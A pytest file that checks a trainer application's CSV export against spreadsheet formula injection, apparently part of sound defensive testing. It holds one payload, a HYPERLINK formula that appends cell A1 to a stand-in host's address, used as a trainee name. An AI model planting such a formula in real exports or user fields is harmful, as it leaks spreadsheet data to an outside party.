"""An exported CSV opened in a spreadsheet: what a trainee typed or a coach named can never run
as a formula. Through the real command on a generated store, read back as a script reads it."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from tests.generated import cached
from trainer.store.db import STORE_FILE, Store
from trainer.store.export import spreadsheet_safe

COMMAND = (sys.executable, "-m", "trainer", "export")
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Klik hier")'


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+32 471 23 45 67", "'+32 471 23 45 67"),  # kept whole, as text: + and spaces
        ("+32471234567", "'+32471234567"),  # a + before digits is a phone number, not 32471234567
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "-3"),  # plain numbers are left as they are
        ("-0.25", "-0.25"),
        ("-0,25", "-0,25"),
        ("0471 23 45 67", "0471 23 45 67"),
        ("Jan = Piet", "Jan = Piet"),  # only the first character matters
        ("", ""),
    ],
)
def test_what_could_start_a_formula_gets_an_apostrophe(typed: str, cell: str) -> None:
    assert spreadsheet_safe(typed) == cell


def test_the_exported_csv_neutralises_names_and_entries(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    shutil.copytree(cached(40, 3), folder)
    store = Store(folder / STORE_FILE)
    try:
        trainee = store.trainees()[0]
        store.rename_trainee(trainee.id, FORMULA)
    finally:
        store.close()
    # a call's first field as if the trainee had typed a phone number and a formula in it
    db = sqlite3.connect(folder / STORE_FILE)
    with db:
        sid, result = db.execute(
            "SELECT id, result_json FROM sessions WHERE json_extract(result_json, '$.kind')"
            " = 'call' ORDER BY id LIMIT 1"
        ).fetchone()
        data = json.loads(result)
        data["fields"][0]["value"] = "+32 471 23 45 67"
        data["fields"][1]["value"] = "-1+1"
        db.execute("UPDATE sessions SET result_json = ? WHERE id = ?", (json.dumps(data), sid))
    db.close()

    def export(table: str) -> list[dict[str, str]]:
        out = tmp_path / f"{table}.csv"
        done = subprocess.run(
            [*COMMAND, "--data-dir", str(folder), "--table", table, "-o", str(out)],
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr
        return list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))

    sessions = export("sessions")
    named = [r for r in sessions if r["trainee"].endswith(FORMULA)]
    assert named and all(r["trainee"] == "'" + FORMULA for r in named)
    # no other text cell of the table starts a formula; numbers stay numbers
    for row in sessions:
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
        assert float(row["duration_seconds"] or 0) >= 0

    fields = [r for r in export("fields") if r["session_id"] == str(sid)]
    assert fields[0]["entered"] == "'+32 471 23 45 67"
    assert fields[1]["entered"] == "'-1+1"
